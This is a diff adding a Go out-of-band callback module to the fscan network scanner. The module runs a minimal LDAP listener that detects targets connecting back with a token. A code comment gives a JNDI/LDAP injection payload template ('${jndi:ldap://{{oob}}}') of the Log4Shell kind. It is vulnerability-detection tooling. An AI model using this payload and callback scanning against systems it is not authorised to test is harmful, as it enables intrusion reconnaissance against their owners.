@@ -0,0 +1,115 @@
+package lib
+
+import (
+	"bytes"
+	"fmt"
+	"math/rand"
+	"net"
+	"sync"
+	"time"
+
+	"github.com/shadow1ng/fscan/common"
+)
+
+// matcher: oob 带外回连检测,path/body/headers 中用 {{oob}} 表示回连地址 host:port/token,
+// 如 ${jndi:ldap://{{oob}}};内置LDAP监听只回应bind并从search请求中取出token,不返回任何对象,
+// 目标只会连回用户自己指定的 -oob-listen 地址。delay 秒内收到对应token的回连即命中,需要 -oob-listen 开启
+var (
+	oobOnce    sync.Once
+	oobErr     error
+	oobMutex   sync.Mutex
+	oobPending = make(map[string]string) // token -> 目标url
+	oobHits    = make(map[string]string) // token -> 回连来源
+)
+
+func startOOB() error {
+	oobOnce.Do(func() {
+		listener, err := net.Listen("tcp", common.OOBListen)
+		if err != nil {
+			oobErr = err
+			fmt.Println("[-] oob listen error:", err)
+			return
+		}
+		fmt.Println("[*] oob ldap listener on " + listener.Addr().String())
+		go func() {
+			for {
+				conn, err := listener.Accept()
+				if err != nil {
+					continue
+				}
+				go handleOOB(conn)
+			}
+		}()
+	})
+	return oobErr
+}
+
+func handleOOB(conn net.Conn) {
+	defer conn.Close()
+	conn.SetDeadline(time.Now().Add(10 * time.Second))
+	buf := make([]byte, 4096)
+	var data []byte
+	for i := 0; i < 2; i++ {
+		n, err := conn.Read(buf)
+		if n > 0 {
+			data = append(data, buf[:n]...)
+		}
+		if err != nil {
+			break
+		}
+		if i == 0 {
+			// bindResponse success,客户端随后发送带token的searchRequest
+			conn.Write([]byte{0x30, 0x0c, 0x02, 0x01, 0x01, 0x61, 0x07, 0x0a, 0x01, 0x00, 0x04, 0x00, 0x04, 0x00})
+		}
+	}
+	from := conn.RemoteAddr().String()
+	oobMutex.Lock()
+	defer oobMutex.Unlock()
+	for token, target := range oobPending {
+		if bytes.Contains(data, []byte(token)) {
+			oobHits[token] = from
+			common.LogSuccess(fmt.Sprintf("[+] OOB callback %v from %v token:%v", target, from, token))
+		}
+	}
+}
+
+func oobMatch(rule Rules, target string, send func(payload string) error) (bool, error) {
+	if common.OOBListen == "" {
+		return false, nil
+	}
+	if err := startOOB(); err != nil {
+		return false, err
+	}
+	host := common.OOBHost
+	if host == "" {
+		host = common.OOBListen
+	}
+	token := RandomStr(rand.New(rand.NewSource(time.Now().UnixNano())), "abcdefghijklmnopqrstuvwxyz0123456789", 16)
+	oobMutex.Lock()
+	oobPending[token] = target
+	oobMutex.Unlock()
+	defer func() {
+		oobMutex.Lock()
+		delete(oobPending, token)
+		delete(oobHits, token)
+		oobMutex.Unlock()
+	}()
+	if err := send(host + "/" + token); err != nil {
+		return false, err
+	}
+	delay := rule.Delay
+	if delay <= 0 {
+		delay = 5
+	}
+	deadline := time.Now().Add(time.Duration(delay) * time.Second)
+	for time.Now().Before(deadline) {
+		oobMutex.Lock()
+		_, hit := oobHits[token]
+		oobMutex.Unlock()
+		if hit {
+			return true, nil
+		}
+		time.Sleep(200 * time.Millisecond)
+	}
+	return false, nil
+}